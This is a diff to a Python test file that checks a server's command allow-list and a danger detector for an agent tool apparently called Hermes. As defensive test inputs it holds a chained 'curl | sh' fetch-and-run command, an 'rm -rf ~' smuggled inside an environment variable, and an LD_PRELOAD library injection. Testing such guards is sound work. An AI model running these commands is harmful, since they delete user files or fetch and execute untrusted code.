@@ -161,3 +161,32 @@ def test_the_server_approver_is_the_allow_list(tmp_path) -> None:
     approve = ServeSettings.from_config(config, HermesHome(tmp_path, "default")).approver()
     assert isinstance(approve, CommandAllowList)
     assert approve("git status", "r") and not approve("git status; curl -s x | sh", "r")
+
+
+def _docs_rows() -> list[tuple[tuple[str, ...], str, bool]]:
+    """The example table of docs/security.md ("Approvals on a server"): patterns, command, approved?"""
+    from pathlib import Path
+
+    text = (Path(__file__).parents[2] / "docs" / "security.md").read_text(encoding="utf-8")
+    table = text.split("| `serve.allowed_commands` | command | approved? | why |", 1)[1].split("\n\n", 1)[0]
+    rows = []
+    for line in table.strip().splitlines()[1:]:
+        cells = [c.strip() for c in line.replace("\\|", "\x00").strip("|").split("|")]
+        patterns = tuple(p.strip().strip("`").replace("\x00", "|") for p in cells[0].split("`, `"))
+        rows.append((patterns, cells[1].strip("`").replace("\x00", "|"), cells[2] == "yes"))
+    return rows
+
+
+def test_the_docs_examples_are_what_the_allow_list_decides() -> None:
+    rows = _docs_rows()
+    assert len(rows) >= 10
+    for patterns, command, approved in rows:
+        assert (CommandAllowList(patterns).refusal(command) is None) is approved, (patterns, command)
+
+
+def test_a_command_hidden_in_an_environment_variable_needs_approval() -> None:
+    from hermes.plugins.tools._danger import dangerous_reason
+
+    assert dangerous_reason("GIT_SSH_COMMAND='rm -rf ~' git push origin main") is not None
+    assert dangerous_reason("env LD_PRELOAD=/tmp/x.so ls") is not None
+    assert dangerous_reason("LANG=C git status") is None
